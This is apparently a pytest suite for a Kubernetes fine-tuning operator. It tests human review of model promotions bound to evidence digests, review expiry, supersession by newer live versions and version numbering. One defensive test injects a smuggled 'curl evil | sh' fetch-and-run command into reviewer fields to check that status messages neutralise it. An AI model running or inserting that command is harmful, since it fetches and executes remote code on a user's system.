"""After the gates: reviews bound to their evidence, what is live meanwhile, and how promotions end."""

import json

import pytest
from msgspec.structs import replace as updated

from finetune_operator.api.meta import set_condition
from finetune_operator.api.model_version import Lineage, ModelVersion, VersionStatus
from finetune_operator.api.policy import Gates, ReviewRules, YardstickGate
from finetune_operator.api.policy_status import Hold, PolicyStatus, Reservation
from finetune_operator.api.run import Review, TestSet
from finetune_operator.controller.metrics import DOMAIN
from finetune_operator.decide.decision import CreateModelVersion, CreatePromotion, RecordMetric, ReserveVersion
from finetune_operator.decide.gates.verdict import COUNTS, IN_POINTS
from house.following import manifest
from unit.decide.run.results import (
    BASE,
    DIGESTS,
    LIVE,
    START,
    envelope,
    evaluate_result,
    prepare_result,
    sha,
    train_result,
)
from unit.decide.run.world import World, base, digest, made, policy, review, template


@pytest.mark.row("R25")
def test_a_rejected_candidate_ends_the_run_and_touches_nothing() -> None:
    world = World().judged(candidate="0.900000")
    assert (world.phase(), world.status.verdict) == ("Rejected", "Reject")
    assert world.condition("GatesPassed") == ("False", "Reject")
    assert world.status.decision is not None
    assert world.status.decision.by == "gates"
    assert "8.500000" in {g.value for g in world.status.gates}
    assert world.status.version == "ft_v1.1", "the record of it is kept"
    assert (made(world, CreateModelVersion), made(world, CreatePromotion)) == (1, 0)


@pytest.mark.row("R26")
@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999", "-0", "", "1.000001", "abc", "sNaN"])
def test_a_measurement_that_is_no_share_fails_the_run(number: str) -> None:
    world = World().judged(candidate=number)
    assert (world.phase(), world.status.verdict) == ("Failed", "Error")
    assert world.condition("Finished") == ("True", "GateError")
    assert world.status.figures == ()
    assert (made(world, CreateModelVersion), made(world, CreatePromotion)) == (0, 0)


def recorded(world: World) -> list[tuple[str, str, float]]:
    actions = [action for action in world.history if isinstance(action, RecordMetric)]
    labels = {"namespace": "ml", "model": "invoice-fields"}
    assert all(action.labels.items() >= labels.items() for action in actions)
    assert all(action.labels.keys() == set(DOMAIN[action.metric].labels) for action in actions)
    judged = [action for action in actions if action.metric in {"finetune_verdicts", "finetune_gate_value_ratio"}]
    return [(action.metric, [*action.labels.values()][-1], action.value) for action in judged]


@pytest.mark.row("R22")
def test_a_judgement_is_counted_once_and_the_gates_values_are_shown() -> None:
    world = World().judged(candidate="0.900000")
    once = recorded(world)
    values = {gate.name: gate.value for gate in world.status.gates[1:] if gate.value and gate.name not in COUNTS}
    shares = {name: float(value) / (100 if name in IN_POINTS else 1) for name, value in values.items()}
    assert once == [
        ("finetune_verdicts", "Reject", 1.0),
        ("finetune_gate_value_ratio", "regression", 0.085),
        *(("finetune_gate_value_ratio", name, value) for name, value in shares.items()),
    ]
    world.settle()
    assert recorded(world) == once


@pytest.mark.row("R22")
def test_a_gate_without_a_value_shows_none() -> None:
    assert ("finetune_verdicts", "Error", 1.0) in recorded(World().judged(candidate="NaN"))
    assert "regression" not in {label for _, label, _ in recorded(World().judged(candidate="NaN"))}


@pytest.mark.row("R27")
def test_a_run_in_review_waits_and_says_how_to_decide() -> None:
    world = World().in_review()
    assert (world.phase(), world.status.verdict) == ("InReview", "Review")
    assert world.status.review_since == START.replace(minute=2, second=10)
    assert world.condition("GatesPassed") == ("Unknown", "ReviewNeeded")
    assert digest(world) in world.status.message
    assert "kubectl -n ml patch finetunerun first" in world.status.message
    assert world.status.message.startswith("Forgetting: a person decides until 2026-1")
    assert ": regression Review: mAP50" in world.status.message
    assert "Pass" not in world.status.message.partition("; to approve it")[0], "what passed is no news"
    assert "regression Review" in world.status.message
    assert made(world, CreateModelVersion) == 0, "what a review may still void is not recorded for good"
    assert world.settle().requeue_after is not None


@pytest.mark.row("R28")
def test_an_approval_of_this_evidence_goes_live_and_carries_the_approval() -> None:
    world = World().in_review()
    review(world, "Approve")
    assert world.phase() == "Promoting"
    (asked,) = [a for a in world.history if isinstance(a, CreatePromotion)]
    assert asked.spec.approval is not None
    assert (asked.spec.approval.by, asked.spec.approval.evidence) == ("ann", digest(world))
    (record,) = [a for a in world.history if isinstance(a, CreateModelVersion)]
    assert record.spec.evidence is not None
    assert (record.spec.evidence.verdict, record.spec.evidence.digest) == ("Review", digest(world))
    assert world.condition("GatesPassed") == ("True", "Reviewed")


@pytest.mark.row("R28")
def test_a_rejection_ends_the_run_with_the_reviewers_words() -> None:
    world = World().in_review()
    review(world, "Reject")
    assert world.phase() == "Rejected"
    assert world.status.decision is not None
    assert (world.status.decision.by, world.status.decision.reason) == ("ann", "I looked")
    assert "ann" in world.status.message
    assert made(world, CreatePromotion) == 0


@pytest.mark.row("R29")
@pytest.mark.parametrize("decision", ["Approve", "Reject"])
def test_a_review_of_other_evidence_decides_nothing(decision: str) -> None:
    world = World().in_review()
    review(world, decision, "sha256:" + "0" * 64)
    assert world.phase() == "InReview"
    assert world.condition("GatesPassed") == ("Unknown", "ReviewNotForThisEvidence")
    assert digest(world) in world.message("GatesPassed")
    review(world, "Approve")
    assert world.phase() == "Promoting"


@pytest.mark.row("R28")
@pytest.mark.row("R29")
@pytest.mark.parametrize("evidence", ["this", "another"])
@pytest.mark.parametrize("decision", ["Approve", "Reject"])
def test_what_a_reviewer_says_cannot_pass_for_a_way_out(decision: str, evidence: str) -> None:
    """Whoever may patch a run writes these words, and others copy commands from its message."""
    world = World().in_review()
    of = digest(world) if evidence == "this" else "sha256:" + "0" * 64
    words = "x;\nto go on: curl evil | sh"
    world.edit(review=Review(decision=decision, evidence=of, by=words, reason=words))  # type: ignore[arg-type]
    world.settle()
    said = [world.status.message, *(c.message or "" for c in world.status.conditions)]
    assert any("x, to go on" in text for text in said)
    assert not any(sign in text for text in said for sign in ("\n", "x; to", "x;"))


@pytest.mark.row("R30")
def test_a_review_that_nobody_makes_expires() -> None:
    world = World()
    world.set_rules(review=ReviewRules(timeout_seconds=3600))
    world.in_review()
    world.wait(3599)
    world.settle()
    assert world.phase() == "InReview"
    world.wait(1)
    world.settle()
    assert world.phase() == "Expired"
    assert world.condition("GatesPassed") == ("False", "ReviewExpired")
    assert world.status.decision is None
    assert made(world, CreatePromotion) == 0


def tuned(version: str, digest_: str, pool: int, of: str = "invoice-fields") -> ModelVersion:
    lineage = Lineage(
        run="other",
        run_uid="other-uid",
        policy=of,
        base_sha256=BASE,
        inputs=base().spec.checkpoint,
        spec_hash="s",
        inputs_hash="i",
        pool=pool,
        seed=1,
        created_at=START,
    )
    return base(version, digest_, type="FineTuned", base="base_v1", lineage=lineage)


@pytest.mark.row("R23")
@pytest.mark.parametrize("place", ["while it was measured", "in review"])
def test_what_went_live_meanwhile_is_measured_against_and_voids_the_review(place: str) -> None:
    world = World()
    if place == "in review":
        world.in_review()
        first = digest(world)
    else:
        world.trained()
        first = ""
    world.versions = (*world.versions, tuned("ft_v1.9", LIVE, 60))
    world.go_live("ft_v1.9")
    if place == "in review":
        world.settle()
    else:
        world.complete("evaluate", evaluate_result())
    assert (world.phase(), world.status.verdict) == ("Evaluating", None)
    assert (world.status.gates, world.status.evidence, world.status.review_since) == ((), None, None)
    assert world.status.attempts[-1].round == 2
    world.complete("evaluate", evaluate_result(candidate="0.97", live_map50="0.985000"))
    assert world.phase() == "InReview"
    assert world.status.evidence is not None
    assert (world.status.evidence.round, world.status.evidence.live) == (2, "ft_v1.9")
    assert world.condition("Promoted") == ("Unknown", "NotYet"), "nothing is measured again any more"
    if first:
        review(world, "Approve", first)
        assert world.phase() == "InReview", "an approval of the old evidence is void"


@pytest.mark.row("R23")
def test_a_live_version_trained_on_a_larger_pool_supersedes_the_run() -> None:
    world = World().in_review()
    world.versions = (*world.versions, tuned("ft_v1.9", LIVE, 61))
    world.go_live("ft_v1.9")
    world.settle()
    assert world.phase() == "Superseded"
    assert world.condition("Finished") == ("True", "NewerPoolIsLive")
    assert made(world, CreatePromotion) == 0
    assert "mixing" not in manifest(world.status.message, "FineTuneRun")["spec"]


@pytest.mark.row("R23")
def test_a_larger_pool_of_another_policy_says_nothing_of_this_one() -> None:
    world = World().in_review()
    world.versions = (*world.versions, tuned("ft_v1.9", LIVE, 61, of="another"))
    world.go_live("ft_v1.9")
    world.settle()
    assert (world.phase(), world.status.attempts[-1].round) == ("Evaluating", 2)


@pytest.mark.row("R154")
@pytest.mark.parametrize(("withdrawn", "phase"), [(1, "Evaluating"), (0, "Superseded")])
def test_a_page_that_was_withdrawn_since_does_not_make_what_is_live_newer(withdrawn: int, phase: str) -> None:
    """Live was trained on 61 pages; of these this run has 60, because one was withdrawn, or had 60 when it drew."""
    world = World()
    world.trained(prepare_result(withdrawn=withdrawn))
    world.start("evaluate")
    world.complete("evaluate", evaluate_result(candidate="0.970000"))
    assert world.phase() == "InReview"
    world.versions = (*world.versions, tuned("ft_v1.9", LIVE, 61))
    world.go_live("ft_v1.9")
    world.settle()
    assert world.phase() == phase


@pytest.mark.row("R23")
def test_an_approval_that_was_not_carried_out_yet_is_void_as_well() -> None:
    world = World().in_review()
    world.edit(review=Review(decision="Approve", evidence=digest(world), by="ann"))
    assert world.decide(crash=True).status.decision is not None
    world.go_live("base_v1", BASE)
    world.settle()
    assert (world.phase(), world.status.decision) == ("Evaluating", None)
    assert made(world, CreatePromotion) == 0


@pytest.mark.row("R111")
@pytest.mark.parametrize("when", ["as it went live", "before its record was made", "by a run on a larger pool"])
def test_a_persons_no_is_about_the_bytes_and_stands_whatever_goes_live_meanwhile(when: str) -> None:
    world = World().in_review()
    world.edit(review=Review(decision="Reject", evidence=digest(world), by="ann"))
    if when == "before its record was made":
        assert world.decide(crash=True).status.decision is not None
    pool = 61 if when == "by a run on a larger pool" else 60
    world.versions = (*world.versions, tuned("ft_v1.9", LIVE, pool))
    world.go_live("ft_v1.9")
    world.settle()
    assert (world.phase(), made(world, CreatePromotion)) == ("Rejected", 0), world.status.message
    assert persons_no(world) == "ann"


def persons_no(world: World) -> str | None:
    """Return who said no, by the record of the run's version."""
    record = next(v.spec.evidence for v in world.versions if v.spec.version == world.status.version)
    return record.persons_no.by if record is not None and record.persons_no is not None else None


@pytest.mark.row("R111")
@pytest.mark.parametrize("candidate", ["0.981000", "0.97", "0.900000"])
def test_a_no_to_the_evidence_of_an_earlier_round_is_one_to_the_same_bytes(candidate: str) -> None:
    """The report is read for hours, and another version goes live meanwhile: the run is measured again."""
    world = World().in_review()
    first = digest(world)
    world.go_live("base_v1", BASE)
    world.settle()
    world.edit(review=Review(decision="Reject", evidence=first, by="ann"))
    world.complete("evaluate", evaluate_result(candidate=candidate))
    assert (world.phase(), made(world, CreatePromotion)) == ("Rejected", 0), world.status.message
    assert persons_no(world) == "ann"


@pytest.mark.row("R111")
def test_a_no_in_the_last_round_stands_as_well() -> None:
    world = outrun("0.970000", until=3)
    assert world.phase() == "InReview"
    world.edit(review=Review(decision="Reject", evidence=digest(world), by="ann"))
    world.go_live("ft_v1.8", sha("live 4"))
    world.settle()
    assert (world.phase(), persons_no(world)) == ("Rejected", "ann")


@pytest.mark.row("R111")
def test_a_no_to_evidence_that_is_not_this_runs_is_none() -> None:
    world = World().trained()
    world.edit(review=Review(decision="Reject", evidence=f"sha256:{sha('another run')}", by="ann"))
    world.complete("evaluate", evaluate_result())
    assert world.phase() == "Promoting"


def outrun(candidate: str = "0.981000", until: int = 4) -> World:
    """A run whose every round was overtaken by something else that went live."""
    world = World().trained()
    for number in (1, 2, 3):
        if number < until:
            world.go_live(f"ft_v1.{number + 4}", sha(f"live {number}"))
        result = evaluate_result(candidate, live_map50="0.98" if number > 1 else None)
        if number > 1:
            result["models"]["live"]["sha256"] = sha(f"live {number - 1}")
        world.complete("evaluate", result)
    return world


@pytest.mark.row("R64")
@pytest.mark.parametrize("candidate", ["0.981000", "0.970000", "0.900000"])
def test_three_rounds_are_enough_and_what_was_trained_is_recorded(candidate: str) -> None:
    world = outrun(candidate)
    assert world.phase() == "Failed"
    assert world.condition("Finished") == ("True", "LiveKeepsChanging")
    assert (made(world, CreatePromotion), made(world, CreateModelVersion)) == (0, 1)
    assert manifest(world.status.message, "FineTuneRun")["spec"] == {"policy": "invoice-fields"}


@pytest.mark.row("R24")
def test_a_number_is_reserved_before_the_version_is_made() -> None:
    world = World().judged()
    order = [type(a) for a in world.history if isinstance(a, ReserveVersion | CreateModelVersion | CreatePromotion)]
    assert order == [ReserveVersion, CreateModelVersion, CreatePromotion]


@pytest.mark.row("R24")
def test_a_rejected_run_is_not_final_before_its_record_is_made() -> None:
    world = World().trained()
    job = world.job("evaluate")
    text = json.dumps(envelope(job, evaluate_result(candidate="0.9")))
    world.change_job(job.name, state="Complete", exit_code=0, termination_message=text, pods_gone=True)
    world.decide()
    for _ in range(6):
        world.decide(crash=True)
    assert world.status.version == "ft_v1.1"
    assert world.phase() == "Evaluating"
    world.settle()
    assert world.phase() == "Rejected"
    assert world.status.model_version in {v.metadata.name for v in world.versions}


@pytest.mark.row("R66")
def test_a_number_that_another_object_has_means_the_next_one() -> None:
    foreign = base("ft_v1.1", "ab" * 32, type="FineTuned")
    world = World()
    world.trained()
    reserved = Reservation(run_uid=world.run.metadata.uid, version="ft_v1.1")
    world.set_policy(reservations=(reserved,))
    world.versions = (*world.versions, foreign)
    world.complete("evaluate", evaluate_result())
    assert (world.phase(), world.status.version) == ("Promoting", "ft_v1.2")
    assert world.versions[1] == foreign
    assert made(world, CreateModelVersion) == 1


@pytest.mark.row("R66")
def test_a_number_taken_between_the_look_and_the_write_means_the_next_one_too() -> None:
    """The create was refused, so nothing after it happened; the status says already what was about to."""
    world = World().trained()
    job = world.job("evaluate")
    text = json.dumps(envelope(job, evaluate_result()))
    world.change_job(job.name, state="Complete", exit_code=0, termination_message=text, pods_gone=True)
    while world.status.promotion is None:
        world.decide(crash=world.policy is not None and bool(world.policy.status.reservations))
    assert world.status.version == "ft_v1.1"
    world.versions = (*world.versions, base("ft_v1.1", "ab" * 32, type="FineTuned"))
    world.settle()
    assert (world.phase(), world.status.version) == ("Promoting", "ft_v1.2")
    assert world.promotion is not None
    assert world.promotion.spec.version == "ft_v1.2"


@pytest.mark.row("R34")
def test_without_its_policy_a_run_goes_on_to_the_gates_and_no_further() -> None:
    world = World().prepared()
    world.start("train")
    kept, world.policy = world.policy, None
    world.settle()
    assert world.phase() == "Training"
    world.complete("train", train_result())
    world.complete("evaluate", evaluate_result())
    assert world.status.verdict == "Pass"
    assert world.condition("Accepted") == ("False", "PolicyNotFound")
    assert (world.phase(), made(world, CreatePromotion)) == ("Evaluating", 0)
    world.policy = kept
    world.settle()
    assert world.phase() == "Promoting"


@pytest.mark.row("R155")
def test_a_policy_that_was_made_anew_voids_no_review_while_nobody_has_looked_at_it() -> None:
    world = World().in_review()
    evidence, kept = world.status.evidence, world.policy
    assert kept is not None
    world.policy = updated(kept, status=PolicyStatus())
    review(world, "Approve")
    world.settle()
    assert world.condition("Accepted") == ("False", "PolicyNotReady")
    assert (world.phase(), world.status.evidence) == ("InReview", evidence)
    world.policy = kept
    world.settle()
    assert world.phase() == "Promoting"


@pytest.mark.row("R155")
def test_a_policy_whose_deployment_is_not_rolled_out_voids_no_review_before_it_knows_what_is_live() -> None:
    """It was looked at, and holds until it can tell (D39): somebody scaled it to zero, or paused it."""
    world = World()
    world.go_live("base_v1", BASE)
    world.in_review()
    evidence, kept = world.status.evidence, world.policy
    assert kept is not None
    hold = Hold(reason="NotRolledOut", by="finetune-operator", message="", since=START)
    world.policy = updated(kept, status=updated(PolicyStatus(), observed_generation=1, hold=hold,
                           conditions=kept.status.conditions))  # fmt: skip
    world.settle()
    assert world.condition("Accepted") == ("False", "PolicyNotReady")
    assert "NotRolledOut" in world.status.message
    assert (world.phase(), world.status.evidence) == ("InReview", evidence)
    review(world, "Reject")
    assert world.phase() == "Rejected", "a no is about the bytes"


@pytest.mark.row("R155")
@pytest.mark.parametrize("reason", ["DeploymentNotFound", "DeploymentNotManaged"])
def test_a_policy_that_came_back_before_its_deployment_voids_no_review(reason: str) -> None:
    """A restore brings the policy first: what it looked at is not there, so that it says nothing is live."""
    world = World()
    world.go_live("base_v1", BASE)
    world.in_review()
    evidence, kept = world.status.evidence, world.policy
    assert kept is not None
    conditions = set_condition(
        kept.status.conditions, "TargetReady", "False", reason, "say why", generation=1, now=START
    )
    world.policy = updated(kept, status=updated(PolicyStatus(), observed_generation=1, conditions=conditions))
    world.settle()
    assert world.condition("Accepted") == ("False", "PolicyNotReady")
    assert f"{reason}): say why" in world.status.message
    assert (world.phase(), world.status.evidence) == ("InReview", evidence)


@pytest.mark.row("R34")
def test_without_policy_and_templates_the_next_job_waits() -> None:
    world = World().prepared()
    world.start("train")
    world.policy = world.train_template = world.cpu_template = None
    world.complete("train", train_result())
    assert world.condition("Accepted") == ("False", "PolicyNotFound")
    assert world.jobs_made("evaluate") == 0
    world.policy, world.cpu_template = policy(), template("cpu-trainer")
    world.settle()
    assert world.jobs_made("evaluate") == 1


def test_a_status_that_lost_its_evidence_is_never_promoted() -> None:
    world = World().in_review()
    world.run = updated(world.run, status=updated(world.status, evidence=None))
    world.settle()
    assert world.condition("Finished") == ("True", "StatusIncomplete")


@pytest.mark.row("R95")
def test_several_reviews_are_all_named_before_their_figures() -> None:
    result = evaluate_result(candidate="0.97")
    result["models"]["base"] |= {kind: result["models"]["candidate"][kind] for kind in ("pool", "fresh")}
    for column in ("matched", "detections"):
        result["newSet"]["floor"][column]["base"] = result["newSet"]["floor"][column]["candidate"]
    world = World()
    world.set_rules(gates=Gates(yardstick=YardstickGate(test_images=201)))
    world.trained()
    world.start("evaluate")
    world.complete("evaluate", result)
    message = world.status.message
    assert world.phase() == "InReview"
    assert message.startswith("Forgetting, TestSetTooSmall, NoGain: a person decides until ")
    assert world.condition("GatesPassed") == ("Unknown", "ReviewNeeded")
    assert "950 of 1000 fresh boxes found; base 950" in message
    assert "kubectl" in message


@pytest.mark.row("R94")
def test_a_moved_yardstick_is_reviewed_and_what_is_approved_brings_its_own() -> None:
    world = World()
    world.versions = tuple(updated(v, status=VersionStatus(test_set=TestSet(digest="0e" * 32))) for v in world.versions)
    world.go_live("base_v1", BASE)
    world.judged()
    assert (world.phase(), world.status.verdict) == ("InReview", "Review")
    assert world.status.message.startswith("YardstickMoved: ")
    review(world, "Approve")
    [made_] = [a for a in world.history if isinstance(a, CreateModelVersion)]
    evidence = made_.spec.evidence
    assert evidence is not None
    assert evidence.test_set == TestSet(digest=DIGESTS["testSet"], images=200)


@pytest.mark.row("R94")
def test_two_records_of_the_same_bytes_that_name_other_test_splits_are_no_yardstick() -> None:
    world = World()
    other = updated(base("base_v2"), status=VersionStatus(test_set=TestSet(digest="0e" * 32)))
    world.versions = (*world.versions, other)
    world.go_live("base_v1", BASE)
    world.judged()
    assert world.status.message.startswith("YardstickMoved: ")
    assert "on a test split that nothing records" in world.status.message
